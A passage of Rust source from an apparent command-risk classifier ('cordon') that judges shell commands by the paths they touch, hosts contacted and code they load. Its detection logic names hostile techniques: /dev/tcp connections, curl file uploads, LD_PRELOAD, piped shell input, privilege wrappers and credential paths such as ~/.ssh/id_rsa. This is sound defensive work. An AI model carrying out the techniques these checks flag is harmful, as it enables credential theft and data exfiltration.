//! Effect classes of one simple command, from the table in `table.rs`.

use crate::class::{ClassSet, RiskClass};
use crate::exec::Found;
use crate::readers::Touch;
use crate::rules::{host_matches, segs_match, Base};
use crate::shell::{SimpleCmd, Word};
use crate::table::{self, Paths, Runs, Spec};

/// What one simple command does.
#[derive(Debug, Default)]
pub(crate) struct Info {
    pub classes: ClassSet,
    /// One reason per class, in the order found.
    pub why: Vec<(RiskClass, String)>,
    /// Absolute paths read and written (for path rules).
    pub reads: Vec<String>,
    pub writes: Vec<String>,
    /// Hosts contacted, when they can be told.
    pub hosts: Vec<String>,
    /// A shell or interpreter reading its program from a pipe.
    pub stdin_exec: bool,
    /// Downloads something (curl, wget, scp...).
    pub downloads: bool,
    /// Runs a file as a program, or makes one executable.
    pub runs_file: bool,
    /// Writes output without end (`yes`, `cat /dev/zero`): harmless only when
    /// a later pipeline stage reads it (and stops), see `decide::bash`.
    pub endless: bool,
}

impl Info {
    pub fn add(&mut self, c: RiskClass, why: impl Into<String>) {
        if !self.classes.contains(c) {
            self.classes.insert(c);
            self.why.push((c, why.into()));
        }
    }
}

/// The places paths are judged against.
pub(crate) struct Where<'a> {
    pub base: Base<'a>,
    pub sandboxed: bool,
    pub allowed_domains: &'a [String],
}

impl Where<'_> {
    /// All hosts known and inside the network policy.
    /// Every host is one the sandbox's network policy allows. A pattern
    /// with a port (`git.corp.example:8443`, a forwarded `127.0.0.1:8080`)
    /// counts for its host: the engine sees no ports, the proxy enforces them.
    pub fn hosts_allowed(&self, hosts: &[String]) -> bool {
        !hosts.is_empty()
            && hosts.iter().all(|h| {
                self.allowed_domains
                    .iter()
                    .any(|p| host_matches(&strip_port(p), h))
            })
    }
}

const SHELLS: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "ash", "mksh", "fish", "source", ".",
];
/// Interpreters and the options that take inline code (also read by `readers`).
pub(crate) const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("osascript", &["-e"]),
    ("deno", &["eval"]),
];
pub(crate) const AWKS: &[&str] = &["awk", "gawk", "mawk", "nawk"];
const PRIV_WRAPPERS: &[&str] = &["doas", "runuser", "pkexec", "sudo", "su"];
const ENV_DUMPS: &[&str] = &["env", "printenv", "set", "export", "declare", "typeset"];

fn short(cmd: &SimpleCmd) -> String {
    let t = cmd.text();
    if t.chars().count() > 60 {
        let s: String = t.chars().take(57).collect();
        format!("{s}...")
    } else {
        t
    }
}

/// Classify one simple command. `home` is used to expand `~` in paths.
pub(crate) fn classify(cmd: &SimpleCmd, w: &Where) -> Info {
    let mut info = Info::default();
    let name = cmd.name();
    let label = short(cmd);
    let args: &[Word] = cmd.argv.get(1..).unwrap_or(&[]);

    // What it runs or loads through variables, options and scripts
    // (`LD_PRELOAD=x cmd`, `sed 'w /etc/x'`, `PYTHONPATH=/tmp/x`): exec.rs.
    for f in crate::exec::scan(cmd) {
        found(&mut info, f, w, &label);
    }
    // Redirections.
    for r in &cmd.redirects {
        if r.write {
            write_path(&mut info, &r.target, false, w, &label);
        } else {
            read_path(&mut info, &r.target, w, &label);
        }
    }

    if cmd.argv.first().is_some_and(|a| a.dynamic) {
        info.add(
            RiskClass::Opaque,
            format!("`{label}` runs a command named at run time"),
        );
        return info;
    }
    if let Some(dir) = foreign_program(&cmd.argv[0].text, w) {
        info.add(
            RiskClass::Unknown,
            format!("`{label}` runs a program from {dir}, outside the workspace: code cordon has not seen"),
        );
        info.runs_file = true;
        return info;
    }
    let spec = table::command(name);
    if spec.is_some() && cmd.argv[0].text.contains('/') {
        // A program named by a path in the workspace is the project's own
        // file whatever its name (`./git status` is not git): project code.
        let p = resolve(&cmd.argv[0].text, &w.base);
        if in_workspace(&p, &w.base) && table_match(&INSTALLED, &p, w.base.home).is_none() {
            info.add(
                RiskClass::RunsCode,
                format!(
                    "`{label}` runs {p}, a program in the workspace, not the installed `{name}`"
                ),
            );
        }
    }
    let Some(spec) = spec else {
        unknown(&mut info, cmd, name, w, &label);
        return info;
    };

    // Positional words (subcommand detection) and the matching sub entry.
    let positional: Vec<&str> = positional_words(name, args);
    let sub = spec
        .subs
        .iter()
        .filter(|(k, _)| {
            let ks: Vec<&str> = k.split(' ').collect();
            (ks.len() <= positional.len() && ks.iter().zip(&positional).all(|(a, b)| a == b))
                || (ks.len() == 1 && args.first().is_some_and(|a| a.text == ks[0]))
        })
        .max_by_key(|(k, _)| k.len());
    let mut base = sub.map(|(_, c)| *c).unwrap_or(spec.classes);
    let mut mode = spec.paths;
    let mut flag_classes = ClassSet::EMPTY;
    for (key, c) in spec.flags {
        if flag_present(key, args, &positional) {
            if *c == ClassSet::of(&[RiskClass::ReadOnly]) {
                base = *c; // a read-only mode of the command (`crontab -l`)
            } else {
                flag_classes = flag_classes.union(*c);
            }
        }
    }
    for (flag, m) in spec.modes {
        if args.iter().any(|a| flag_matches(flag, &a.text)) {
            mode = *m;
        }
    }
    let what = format!("`{label}`");
    // For commands that write their path arguments the paths decide where
    // the writes land; the table's "writes inside the workspace" is only the
    // fallback when no path says otherwise.
    let defer_ww = matches!(mode, Paths::Write | Paths::Delete | Paths::WriteLast)
        && base == ClassSet::of(&[RiskClass::WriteWorkspace]);
    // Commands that write into the current directory (`split`, `tar x`):
    // outside the workspace when the directory is.
    let cwd_outside =
        !(in_workspace(w.base.cwd, &w.base) || (w.sandboxed && is_scratch(w.base.cwd)));
    for c in base.union(flag_classes).iter() {
        if defer_ww && c == RiskClass::WriteWorkspace && !flag_classes.contains(c) {
            continue;
        }
        if c == RiskClass::WriteWorkspace && cwd_outside && !defer_ww {
            info.add(
                RiskClass::WriteOutside,
                format!("{what} writes in {}, outside the workspace", w.base.cwd),
            );
            continue;
        }
        if c == RiskClass::WriteWorkspace && !defer_ww && !in_workspace(w.base.cwd, &w.base) {
            info.add(
                c,
                format!(
                    "{what} writes in {}, the sandbox's private scratch space",
                    w.base.cwd
                ),
            );
            continue;
        }
        info.add(c, format!("{what} {}", c.phrase()));
    }

    paths(&mut info, spec, mode, cmd, args, &positional, w, &label);
    if defer_ww
        && !info.classes.contains(RiskClass::WriteWorkspace)
        && !info.classes.contains(RiskClass::WriteOutside)
        && !info.classes.contains(RiskClass::Destructive)
    {
        info.add(
            RiskClass::WriteWorkspace,
            format!("{what} {}", RiskClass::WriteWorkspace.phrase()),
        );
    }
    special(&mut info, cmd, name, args, w, &label);
    // Paths read or written in other forms (`git show HEAD:path`, SQL file
    // functions, inline code): see readers.rs.
    for a in crate::readers::accesses(cmd, name, &w.base) {
        match a.touch {
            Touch::Read => read_path(&mut info, &a.path, w, &label),
            Touch::Write => write_path(&mut info, &a.path, false, w, &label),
            Touch::Either => {
                read_path(&mut info, &a.path, w, &label);
                if !a.path.dynamic {
                    info.writes.push(resolve(&a.path.text, &w.base));
                }
            }
        }
    }
    hosts(&mut info, args);
    if info.classes.contains(RiskClass::NetRead) || info.classes.contains(RiskClass::NetSend) {
        if let Some(h) = info.hosts.first() {
            let h = h.clone();
            if let Some(r) = info
                .why
                .iter_mut()
                .find(|(c, _)| matches!(c, RiskClass::NetRead | RiskClass::NetSend))
            {
                r.1.push_str(&format!(" ({h})"));
            }
        }
    }
    info
}

/// A program named by a path (`/tmp/x/tool`, `../../bin/run`) that is neither
/// in the workspace nor where installed software lives: its directory.
fn foreign_program(argv0: &str, w: &Where) -> Option<String> {
    if !argv0.contains('/') {
        return None;
    }
    foreign_code(argv0, w)
}

/// A file of code (program or script) outside the workspace and outside the
/// places software is installed: its directory.
fn foreign_code(path: &str, w: &Where) -> Option<String> {
    let p = resolve(path, &w.base);
    if p.starts_with("/dev/") || p.starts_with("/proc/self/fd/") {
        return None; // standard input or a pipe: judged as code read from a pipe
    }
    if in_workspace(&p, &w.base) || table_match(&INSTALLED, &p, w.base.home).is_some() {
        return None;
    }
    Some(match p.rsplit_once('/') {
        Some(("", _)) => "/".to_string(),
        Some((d, _)) => d.to_string(),
        None => p,
    })
}

/// Judge one thing found by `exec::scan`. Carried commands with known text
/// are commands of their own (the shell analysis added them).
fn found(info: &mut Info, f: Found, w: &Where, label: &str) {
    match f {
        Found::Cmd { label: via, text } => {
            if text.dynamic {
                info.add(
                    RiskClass::Opaque,
                    format!(
                        "`{via}` runs a command only known at run time ({})",
                        text.text
                    ),
                );
            }
        }
        Found::Code {
            label: via,
            path,
            config,
        } => code(info, &via, &path, config, w),
        Found::Read(p) => read_path(info, &p, w, label),
        Found::Write(p) => write_path(info, &p, false, w, label),
        Found::Opaque(why) => info.add(RiskClass::Opaque, why),
        Found::Built(why) => info.add(RiskClass::RunsCode, why),
        Found::Class(c, why) => info.add(c, why),
    }
}

/// A file or directory of code a program loads or runs: project code in the
/// workspace, installed software, or code cordon has not seen.
fn code(info: &mut Info, via: &str, path: &Word, config: bool, w: &Where) {
    let (p, unknown) = path_of(path, w);
    if unknown {
        info.add(
            RiskClass::Opaque,
            format!(
                "`{via}` loads code from a place only known at run time ({})",
                path.text
            ),
        );
    } else if let Some(dir) = foreign_code(&p, w) {
        info.add(
            RiskClass::Unknown,
            format!(
                "`{via}` loads code from {dir}, outside the workspace: code cordon has not seen"
            ),
        );
    } else if !config && in_workspace(&p, &w.base) {
        info.add(
            RiskClass::RunsCode,
            format!("`{via}` runs code from the workspace ({})", path.text),
        );
    }
}

fn unknown(info: &mut Info, cmd: &SimpleCmd, name: &str, w: &Where, label: &str) {
    let argv0 = &cmd.argv[0].text;
    if table::wrapper(name).is_some() {
        if PRIV_WRAPPERS.contains(&name) {
            info.add(RiskClass::Privilege, format!("`{label}` gains privilege"));
        } else {
            info.add(
                RiskClass::ReadOnly,
                format!("`{label}` runs the command it wraps"),
            );
        }
        return;
    }
    if argv0.contains('/') {
        let p = resolve(argv0, &w.base);
        if in_workspace(&p, &w.base) {
            info.add(
                RiskClass::RunsCode,
                format!("`{label}` runs a program from the workspace"),
            );
            return;
        }
        if let Some(r) = table::command(name) {
            let _ = r;
        }
    }
    info.add(
        RiskClass::Unknown,
        format!("`{name}` is not a command cordon knows"),
    );
}

/// Words after the command that are not options (skipping option values for git).
fn positional_words<'a>(name: &str, args: &'a [Word]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() && out.len() < 3 {
        let a = args[i].text.as_str();
        if a.starts_with('-') && a.len() > 1 {
            // git -C DIR / -c k=v take a value.
            if name == "git" && (a == "-C" || a == "-c") {
                i += 1;
            }
        } else {
            out.push(a);
        }
        i += 1;
    }
    out
}

fn flag_matches(flag: &str, arg: &str) -> bool {
    if arg == flag {
        return true;
    }
    if let Some(long) = flag.strip_prefix("--") {
        return arg
            .strip_prefix("--")
            .and_then(|a| a.strip_prefix(long))
            .is_some_and(|rest| rest.starts_with('='));
    }
    if flag.len() == 2 && flag.starts_with('-') {
        let letter = flag.as_bytes()[1];
        // `-i.bak`, `-i~`, `-o/x`: the flag with a value attached.
        if arg.len() > 2 && arg.starts_with(flag) && !arg.as_bytes()[2].is_ascii_alphanumeric() {
            return true;
        }
        return arg.len() > 2
            && arg.starts_with('-')
            && !arg.starts_with("--")
            && arg.bytes().skip(1).all(|b| b.is_ascii_alphanumeric())
            && arg.as_bytes()[1..].contains(&letter);
    }
    false
}

/// Does a flag key from the table match? See the module doc of `table`.
fn flag_present(key: &str, args: &[Word], positional: &[&str]) -> bool {
    let parts: Vec<&str> = key.split(' ').collect();
    if parts[0].starts_with('-') {
        if parts.len() == 1 {
            return args.iter().any(|a| flag_matches(key, &a.text));
        }
        // `-v /:`: the flag followed by a value with this prefix.
        let (flag, prefix) = (parts[0], parts[1]);
        return args
            .windows(2)
            .any(|p| p[0].text == flag && p[1].text.starts_with(prefix))
            || args.iter().any(|a| {
                a.text
                    .strip_prefix(flag)
                    .and_then(|r| r.strip_prefix('='))
                    .is_some_and(|v| v.starts_with(prefix))
            });
    }
    if parts.len() == 1 {
        return args.iter().any(|a| a.text == key);
    }
    let (subs, last) = parts.split_at(parts.len() - 1);
    let last = last[0];
    subs.len() <= positional.len()
        && subs.iter().zip(positional).all(|(a, b)| a == b)
        && args
            .iter()
            .any(|a| a.text == last || (last.starts_with('-') && flag_matches(last, &a.text)))
}

/// Apply the command's path mode to its arguments.
#[allow(clippy::too_many_arguments)]
fn paths(
    info: &mut Info,
    spec: &Spec,
    mode: Paths,
    cmd: &SimpleCmd,
    args: &[Word],
    positional: &[&str],
    w: &Where,
    label: &str,
) {
    // Values of output flags are written.
    let mut skip_next = false;
    let mut path_args: Vec<&Word> = Vec::new();
    for (i, a) in args.iter().enumerate() {
        if skip_next {
            skip_next = false;
            continue;
        }
        let t = a.text.as_str();
        if spec.out.contains(&t) {
            if let Some(v) = args.get(i + 1) {
                write_path(info, v, false, w, label);
            }
            skip_next = true;
            continue;
        }
        if let Some((flag, v)) = t.split_once('=') {
            if spec.out.contains(&flag) {
                write_path(
                    info,
                    &Word {
                        text: v.to_string(),
                        dynamic: a.dynamic,
                    },
                    false,
                    w,
                    label,
                );
                continue;
            }
            if flag.starts_with('-') && looks_like_path(v) {
                read_path(
                    info,
                    &Word {
                        text: v.to_string(),
                        dynamic: a.dynamic,
                    },
                    w,
                    label,
                );
                continue;
            }
        }
        if spec.name == "dd" {
            if let Some(v) = t.strip_prefix("of=") {
                write_path(
                    info,
                    &Word {
                        text: v.to_string(),
                        dynamic: a.dynamic,
                    },
                    false,
                    w,
                    label,
                );
            } else if let Some(v) = t.strip_prefix("if=") {
                read_path(
                    info,
                    &Word {
                        text: v.to_string(),
                        dynamic: a.dynamic,
                    },
                    w,
                    label,
                );
            }
            continue;
        }
        if (t.starts_with('-') && t.len() > 1) || t == ";" || t == "+" {
            continue;
        }
        // `-d @file`, `-F x=@file`: curl uploads a file.
        if let Some(at) = t.find('@').filter(|_| spec.name == "curl") {
            let f = &t[at + 1..];
            if !f.is_empty() && !t[..at].contains(':') {
                read_path(
                    info,
                    &Word {
                        text: f.to_string(),
                        dynamic: a.dynamic,
                    },
                    w,
                    label,
                );
                continue;
            }
        }
        path_args.push(a);
    }
    // find: only the start paths are paths; -delete removes what is below them.
    if spec.name == "find" {
        let starts: Vec<&Word> = args
            .iter()
            .take_while(|a| !a.text.starts_with('-') && a.text != "(" && a.text != "!")
            .collect();
        let starts = if starts.is_empty() { vec![] } else { starts };
        for a in &starts {
            if mode == Paths::Delete {
                let below = Word {
                    text: format!("{}/*", a.text.trim_end_matches('/')),
                    dynamic: a.dynamic,
                };
                write_path(info, &below, true, w, label);
            } else {
                read_path(info, a, w, label);
            }
        }
        if starts.is_empty() && mode == Paths::Delete {
            write_path(
                info,
                &Word {
                    text: "./*".into(),
                    dynamic: false,
                },
                true,
                w,
                label,
            );
        }
        return;
    }
    // The mode or owner of chmod/chown/chgrp/chattr/chflags is not a path.
    if path_args
        .first()
        .is_some_and(|a| access_spec(spec.name, &a.text))
        && !args.iter().any(|a| a.text.starts_with("--reference"))
    {
        path_args.remove(0);
    }
    // A searcher's pattern or a sed/awk script is not a path: read with the
    // program's option table where there is one (`grep -m 1 P f`, `grep -e P
    // f`), else the first operand of a program whose first operand is text.
    if crate::readers::knows_script(spec.name) {
        for script in crate::readers::script_words(spec.name, args) {
            if let Some(i) = path_args.iter().position(|a| a.text == script) {
                path_args.remove(i);
            }
        }
    } else if !path_args.is_empty() && first_operand_is_text(spec, args) {
        path_args.remove(0);
    }
    // Subcommand words are not paths.
    if !spec.subs.is_empty() {
        let n = positional.len().min(2);
        path_args.retain(|a| !positional[..n].contains(&a.text.as_str()));
    }
    if spec.paths == Paths::NoPaths && mode == Paths::NoPaths {
        // Still notice credential files named anywhere (`scp ~/.ssh/id_rsa`).
        for a in path_args {
            if looks_like_path(&a.text) {
                cred_only(info, a, w, label);
            }
        }
        return;
    }
    let n = path_args.len();
    if REMOTE_COPY.contains(&spec.name) {
        for (i, a) in path_args.iter().enumerate() {
            if is_remote(&a.text) {
                if i + 1 == n {
                    info.add(
                        RiskClass::NetSend,
                        format!("`{label}` copies files to another host"),
                    );
                } else {
                    info.add(
                        RiskClass::NetRead,
                        format!("`{label}` copies files from another host"),
                    );
                    info.downloads = true;
                }
            }
        }
    }
    for (i, a) in path_args.into_iter().enumerate() {
        match mode {
            Paths::NoPaths => {}
            Paths::Read => read_path(info, a, w, label),
            Paths::Write => write_path(info, a, false, w, label),
            Paths::Delete => write_path(info, a, true, w, label),
            Paths::WriteLast if i + 1 == n && n > 1 => {
                if !is_remote(&a.text) {
                    write_path(info, a, false, w, label)
                }
            }
            Paths::WriteLast => {
                if !is_remote(&a.text) {
                    read_path(info, a, w, label)
                }
            }
        }
    }
    if cmd.extra_args && matches!(mode, Paths::Write | Paths::Delete) {
        if w.sandboxed {
            info.add(
                RiskClass::WriteWorkspace,
                format!("`{label}` changes files named only at run time; the sandbox confines it to the workspace"),
            );
        } else {
            info.add(
                RiskClass::WriteOutside,
                format!("`{label}` changes files named only at run time"),
            );
        }
    }
}

/// Is the first operand a pattern (`grep PATTERN FILE`) or a script (`sed
/// SCRIPT FILE`) rather than a file? Not when an option gives it (`-e`, `-f`).
fn first_operand_is_text(spec: &Spec, args: &[Word]) -> bool {
    let given = |o: &str| args.iter().any(|a| flag_matches(o, &a.text));
    if let Some((_, opts)) = table::PATTERN_FIRST.iter().find(|(n, _)| *n == spec.name) {
        return !opts.iter().any(|o| given(o));
    }
    spec.runs.iter().any(|(k, _)| k.is_empty())
        && !spec.runs.iter().any(|(k, kind)| {
            (matches!(kind, Runs::Sed | Runs::Awk)
                || matches!(*k, "-f" | "--file" | "-E" | "--exec"))
                && !k.is_empty()
                && given(k)
        })
}

/// The first operand of a permission command when it is a mode, owner or
/// attribute list rather than a file (`755`, `a+w`, `root:root`, `+i`).
fn access_spec(name: &str, t: &str) -> bool {
    match name {
        "chown" | "chgrp" | "chflags" => true,
        "chattr" => t.starts_with(['+', '=']),
        "chmod" => {
            (t.len() <= 5 && !t.is_empty() && t.bytes().all(|b| (b'0'..=b'7').contains(&b)))
                || t.split(',').all(|part| {
                    part.find(['+', '-', '='])
                        .is_some_and(|i| part[..i].bytes().all(|b| b"ugoa".contains(&b)))
                        && part
                            .bytes()
                            .all(|b| b"ugoarwxXst+-=".contains(&b) || b.is_ascii_digit())
                })
        }
        _ => false,
    }
}

const REMOTE_COPY: &[&str] = &["rsync", "scp", "sftp"];

/// `host:path`, `user@host:path`, a URL: not a local path.
pub(crate) fn is_remote(t: &str) -> bool {
    t.contains("://")
        || t.split_once(':')
            .is_some_and(|(h, _)| !h.is_empty() && !h.contains('/'))
}

fn looks_like_path(t: &str) -> bool {
    t.starts_with('/')
        || t.starts_with('~')
        || t.starts_with("./")
        || t.starts_with("../")
        || t.contains('/')
        || t.starts_with('.')
}

/// Resolve a path word to an absolute, lexically normalised path. `~` stays
/// `~` when the home directory is unknown.
pub(crate) fn resolve(raw: &str, b: &Base) -> String {
    let raw = match raw.strip_prefix("file:") {
        Some(r) => r.split('?').next().unwrap_or(r).trim_start_matches("//"),
        None => raw,
    };
    let joined = if raw == "~" || raw.starts_with("~/") {
        format!("{}{}", b.home.unwrap_or("~"), &raw[1..])
    } else if let Some(rest) = raw.strip_prefix('~') {
        // ~user/...: the home directory when it is this user's.
        let (user, tail) = rest.split_once('/').unwrap_or((rest, ""));
        match b.home {
            Some(h) if h.rsplit('/').next() == Some(user) => format!("{h}/{tail}"),
            _ if user == "root" => format!("/root/{tail}"),
            _ => format!("/home/{rest}"),
        }
    } else if raw.starts_with('/') {
        raw.to_string()
    } else {
        format!("{}/{}", b.cwd.trim_end_matches('/'), raw)
    };
    let tilde = joined.starts_with('~');
    let mut parts: Vec<&str> = Vec::new();
    for seg in joined.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                if parts.len() > usize::from(tilde) {
                    parts.pop();
                }
            }
            s => parts.push(s),
        }
        // `/proc/PID/root` is the root directory as that process sees it,
        // `/proc/self/cwd` the working directory.
        if !tilde && parts.len() == 3 && parts[0] == "proc" {
            if parts[2] == "root" {
                parts.clear();
            } else if parts[2] == "cwd" && matches!(parts[1], "self" | "thread-self") {
                parts = b.cwd.split('/').filter(|s| !s.is_empty()).collect();
            }
        }
    }
    if tilde {
        parts.join("/")
    } else {
        format!("/{}", parts.join("/"))
    }
}

/// A piece of a table's text: bytes `start..end`.
#[derive(Debug, Clone, Copy)]
struct Span(u16, u16);

/// One compiled path pattern of a table.
#[derive(Debug)]
pub(crate) struct Pat {
    src: Span,
    /// Starts with `~/`: tried against home-relative remainders.
    home: bool,
    /// Starts with `/`.
    abs: bool,
    /// Its segments (without a leading `~`): `segs[start..end]` of the table.
    segs: (u16, u16),
    /// Text every matching path contains (pre-filter for wildcard patterns).
    lit: Span,
}

/// The most segments a table's pattern has (`build.rs` checks it).
const MAX_SEGS: usize = 8;

/// A path table indexed by its patterns' last literal segment, so a lookup
/// tests only the patterns that can match. Compiled by `build.rs` from the
/// catalogue and `table/paths.rs`: nothing is built at run time, and the
/// table holds offsets into its text rather than pointers, which a
/// position-independent binary would relocate (and copy a page of) at every
/// start.
#[derive(Debug)]
pub(crate) struct PathTable {
    /// The patterns' text, one after another.
    text: &'static str,
    /// The patterns' segments.
    segs: &'static [Span],
    /// Patterns: each key's in table order, by key; then `rest`.
    pats: &'static [Pat],
    /// Last literal segments, sorted, with their patterns `pats[start..end]`.
    keys: &'static [(Span, u16, u16)],
    /// Patterns whose last segment is a glob: `pats[rest..]`.
    rest: u16,
}

impl PathTable {
    fn str(&self, s: Span) -> &'static str {
        &self.text[usize::from(s.0)..usize::from(s.1)]
    }

    fn with_seg(&self, seg: &str) -> &'static [Pat] {
        match self
            .keys
            .binary_search_by(|(k, _, _)| self.str(*k).cmp(seg))
        {
            Ok(i) => {
                let (_, start, end) = self.keys[i];
                &self.pats[usize::from(start)..usize::from(end)]
            }
            Err(_) => &[],
        }
    }

    fn rest(&self) -> &'static [Pat] {
        &self.pats[usize::from(self.rest)..]
    }

    /// The segments of `p`, in `buf`.
    fn segs_of<'b>(&self, p: &Pat, buf: &'b mut [&'static str; MAX_SEGS]) -> &'b [&'static str] {
        let spans = &self.segs[usize::from(p.segs.0)..usize::from(p.segs.1)];
        for (slot, s) in buf.iter_mut().zip(spans) {
            *slot = self.str(*s);
        }
        &buf[..spans.len()]
    }
}

// CREDENTIAL, PERSISTENCE, EVASION, SCRATCH, INSTALLED, SECURITY_LOGS.
include!(concat!(env!("OUT_DIR"), "/path_tables.rs"));

/// Match a path table: `~/x` tries the home directory (or `~`), `/root`
/// and `/home/*`; a relative pattern matches at any depth.
pub(crate) fn table_match(t: &PathTable, path: &str, home: Option<&str>) -> Option<&'static str> {
    let all: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
    let mut homes: [&[&str]; 4] = [&[]; 4];
    let mut nh = 0;
    if all.first() == Some(&"~") {
        homes[nh] = &all[1..];
        nh += 1;
    }
    if let Some(h) = home {
        let hs = h.split('/').filter(|s| !s.is_empty());
        let n = hs.clone().count();
        if n > 0 && all.len() >= n && hs.zip(&all).all(|(a, b)| a == *b) {
            homes[nh] = &all[n..];
            nh += 1;
        }
    }
    if all.first() == Some(&"root") {
        homes[nh] = &all[1..];
        nh += 1;
    }
    if all.first() == Some(&"home") && all.len() >= 2 {
        homes[nh] = &all[2..];
        nh += 1;
    }
    let test = |p: &Pat| -> bool {
        let mut buf = [""; MAX_SEGS];
        let segs = t.segs_of(p, &mut buf);
        if p.home {
            homes[..nh].iter().any(|rest| segs_match(segs, rest))
        } else if p.abs {
            segs_match(segs, &all)
        } else {
            (0..all.len()).any(|k| segs_match(segs, &all[k..]))
        }
    };
    for seg in &all {
        if let Some(p) = t.with_seg(seg).iter().find(|p| test(p)) {
            return Some(t.str(p.src));
        }
    }
    t.rest()
        .iter()
        .find(|p| path.contains(t.str(p.lit)) && test(p))
        .map(|p| t.str(p.src))
}

fn in_workspace(p: &str, b: &Base) -> bool {
    let ws = b.workspace.trim_end_matches('/');
    p == ws || p.starts_with(&format!("{ws}/"))
}

fn is_scratch(p: &str) -> bool {
    table_match(&SCRATCH, p, None).is_some()
}

/// Writing here stores nothing (`> /dev/null`, `>&2` spelled as a path).
fn is_sink(p: &str) -> bool {
    matches!(
        p,
        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero"
    ) || p.starts_with("/dev/fd/")
        || p.starts_with("/proc/self/fd/")
}

/// A dynamic word with its run-time parts replaced by a placeholder, so the
/// path tables can still be checked (`/proc/$PID/mem` -> `/proc/_/mem`).
fn skeleton(t: &str) -> String {
    let mut out = String::with_capacity(t.len());
    let b = t.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            i += 1;
            if i < b.len() && (b[i] == b'{' || b[i] == b'(') {
                let close = if b[i] == b'{' { b'}' } else { b')' };
                let mut depth = 0;
                while i < b.len() {
                    if b[i] == b'{' || b[i] == b'(' {
                        depth += 1;
                    } else if b[i] == close {
                        depth -= 1;
                        if depth == 0 {
                            i += 1;
                            break;
                        }
                    }
                    i += 1;
                }
            } else {
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
            }
            out.push('_');
        } else {
            out.push(b[i] as char);
            i += 1;
        }
    }
    out
}

fn is_device(p: &str) -> bool {
    [
        "/dev/sd",
        "/dev/nvme",
        "/dev/vd",
        "/dev/hd",
        "/dev/mmcblk",
        "/dev/xvd",
        "/dev/disk",
    ]
    .iter()
    .any(|d| p.starts_with(d))
}

fn cred_only(info: &mut Info, a: &Word, w: &Where, label: &str) {
    let p = if a.dynamic {
        resolve(&skeleton(&a.text), &w.base)
    } else {
        resolve(&a.text, &w.base)
    };
    if table_match(&CREDENTIAL, &p, w.base.home).is_some() {
        info.add(
            RiskClass::Credential,
            format!("`{label}` touches credentials ({})", a.text),
        );
        info.reads.push(p);
    }
}

/// The path a word names: `$PWD/x` is `./x`; other run-time parts become
/// `_` (see [`skeleton`]). The flag says whether its value is only known at
/// run time (a path relative to a directory `cd` went to at run time is
/// `/<unknown>/...`: outside the workspace for writes, unknown for reads).
fn path_of(a: &Word, w: &Where) -> (String, bool) {
    let pwd = ["$PWD", "${PWD}", "$(pwd)", "`pwd`"]
        .iter()
        .find_map(|p| a.text.strip_prefix(p))
        .filter(|rest| {
            a.dynamic && !rest.contains(['$', '`']) && (rest.is_empty() || rest.starts_with('/'))
        });
    if let Some(rest) = pwd {
        return (resolve(&format!(".{rest}"), &w.base), false);
    }
    let p = if a.dynamic {
        resolve(&skeleton(&a.text), &w.base)
    } else {
        resolve(&a.text, &w.base)
    };
    (p, a.dynamic)
}

/// The directory `decide` records after `cd` to a place only known at run time.
const UNKNOWN_DIR: &str = "/<unknown>";

fn read_path(info: &mut Info, a: &Word, w: &Where, label: &str) {
    if a.text.starts_with("/dev/tcp/") || a.text.starts_with("/dev/udp/") {
        net_device(info, a, label);
        return;
    }
    let (p, dynamic) = path_of(a, w);
    let unknown = dynamic || p.starts_with(UNKNOWN_DIR);
    if unknown && !w.sandboxed && table_match(&CREDENTIAL, &p, w.base.home).is_none() {
        // Neither inside nor outside the workspace: it could be a key. In
        // the sandbox, secrets are not there to read.
        info.add(
            RiskClass::Unknown,
            format!(
                "`{label}` reads a path only known at run time ({}): it could hold credentials",
                a.text
            ),
        );
    }
    if table_match(&CREDENTIAL, &p, w.base.home).is_some() {
        info.add(
            RiskClass::Credential,
            format!("`{label}` reads credentials ({})", a.text),
        );
    } else if p.starts_with(table::SECURITY_LOG_DIR)
        && table_match(&SECURITY_LOGS, &p, None).is_some()
    {
        info.add(
            RiskClass::Credential,
            format!(
                "`{label}` reads {}, a security log only administrators may read (logins, audit trail, firewall)",
                a.text
            ),
        );
    }
    if !unknown {
        info.reads.push(p);
    }
}

fn net_device(info: &mut Info, a: &Word, label: &str) {
    info.add(
        RiskClass::NetSend,
        format!("`{label}` opens a network connection through {}", a.text),
    );
    if let Some(h) = a.text.split('/').nth(3) {
        info.hosts.push(h.to_string());
    }
}

/// A path written (or deleted, `delete`).
fn write_path(info: &mut Info, a: &Word, delete: bool, w: &Where, label: &str) {
    if a.text.starts_with("/dev/tcp/") || a.text.starts_with("/dev/udp/") {
        net_device(info, a, label);
        return;
    }
    let verb = if delete { "deletes" } else { "writes" };
    let (p, unknown) = path_of(a, w);
    if is_sink(&p) {
        return;
    }
    let home = w.base.home;
    let evasion = table_match(&EVASION, &p, home);
    let persistence = table_match(&PERSISTENCE, &p, home);
    let credential = table_match(&CREDENTIAL, &p, home);
    let in_tables = evasion.is_some() || persistence.is_some() || credential.is_some();
    if unknown && !in_tables {
        // Only known at run time, so neither inside nor outside the
        // workspace; `$HOME/...` was already made `~`.
        if w.sandboxed {
            info.add(
                RiskClass::WriteWorkspace,
                format!("`{label}` {verb} a path only known at run time ({}); the sandbox confines it to the workspace", a.text),
            );
        } else {
            info.add(
                RiskClass::WriteOutside,
                format!(
                    "`{label}` {verb} a path only known at run time ({})",
                    a.text
                ),
            );
        }
        return;
    }
    if let Some(pat) = evasion {
        info.add(
            RiskClass::Evasion,
            format!("`{label}` {verb} {} (protected: {pat})", a.text),
        );
    } else if let Some(pat) = persistence {
        info.add(
            RiskClass::Persistence,
            format!(
                "`{label}` {verb} {}, which runs or grants access later ({pat})",
                a.text
            ),
        );
    } else if credential.is_some() {
        info.add(
            RiskClass::Credential,
            format!("`{label}` {verb} credentials ({})", a.text),
        );
    } else if is_device(&p) {
        info.add(
            RiskClass::Destructive,
            format!("`{label}` overwrites the disk device {}", a.text),
